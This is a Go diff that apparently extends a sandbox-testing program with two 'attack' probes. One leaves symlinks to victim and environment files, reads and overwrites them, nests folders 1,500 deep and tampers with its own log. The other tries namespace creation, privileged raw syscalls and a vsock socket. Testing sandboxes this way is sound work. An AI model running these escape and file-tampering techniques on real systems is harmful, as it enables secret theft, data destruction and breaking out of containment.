@@ -48,6 +48,8 @@ var attacks = map[string]func(){
 	"ptrace":                  ptrace,
 	"mount":                   mount,
 	"write-kernel":            writeKernel,
+	"link-own-folder":         linkOwnFolder,
+	"make-namespaces":         makeNamespaces,
 }
 
 func readFile(path string) {
@@ -267,5 +269,67 @@ func writeKernel() {
 	}
 	if err := syscall.Sethostname([]byte("hostile")); err == nil {
 		gain("the name of the host")
+	}
+}
+
+// linkOwnFolder leaves links and nested folders, and changes its own log through its output.
+func linkOwnFolder() {
+	victims := map[string]string{
+		"file-link":   os.Getenv("HINT_VICTIM_FILE"),
+		"folder-link": os.Getenv("HINT_VICTIM_FOLDER"),
+		"service.log": os.Getenv("HINT_ENV_FILE"),
+	}
+	for name, victim := range victims {
+		if err := os.Symlink(victim, name); err != nil {
+			fmt.Println("refused:", err)
+		}
+		if content, err := os.ReadFile(name); err == nil {
+			gain("the file %s: %s", victim, content)
+		}
+		if err := os.WriteFile(name, []byte("overwritten"), 0o600); err == nil {
+			gain("the file %s", victim)
+		}
+	}
+	for depth := 0; depth < 1500; depth++ {
+		if os.Mkdir("d", 0o700) != nil || os.Chdir("d") != nil {
+			break
+		}
+	}
+	if log, err := os.OpenFile("/proc/self/fd/1", os.O_RDWR, 0); err == nil {
+		log.Truncate(1 << 40)
+		log.Chmod(0)
+		log.Truncate(0)
+		log.Close()
+	}
+}
+
+// makeNamespaces prints what the kernel allows. Numbers of calls are those of x86_64 and aarch64.
+func makeNamespaces() {
+	for name, flag := range map[string]uintptr{
+		"user": syscall.CLONE_NEWUSER, "mount": syscall.CLONE_NEWNS, "network": syscall.CLONE_NEWNET,
+	} {
+		child := exec.Command("/proc/self/exe", "end")
+		child.SysProcAttr = &syscall.SysProcAttr{Cloneflags: flag}
+		if child.Run() == nil {
+			gain("a %s namespace by clone", name)
+		}
+	}
+	if _, _, err := syscall.RawSyscall(syscall.SYS_UNSHARE, syscall.CLONE_NEWUSER, 0, 0); err == 0 {
+		gain("a user namespace by unshare")
+	}
+	// Calls without arguments fail in another way where they are allowed.
+	const fsopen, openTree, clone3 = 430, 428, 435
+	for name, number := range map[string]uintptr{
+		"fsopen": fsopen, "open_tree": openTree, "clone3": clone3, "keyctl": syscall.SYS_KEYCTL,
+	} {
+		_, _, err := syscall.RawSyscall(number, 0, 0, 0)
+		if err != syscall.EPERM && err != syscall.ENOSYS {
+			gain("the call %s: %v", name, err)
+		}
+	}
+	const vsock = 40
+	if socket, err := syscall.Socket(vsock, syscall.SOCK_STREAM, 0); err == nil {
+		syscall.Close(socket)
+		gain("a socket of the virtual machine's host")
 	}
 }
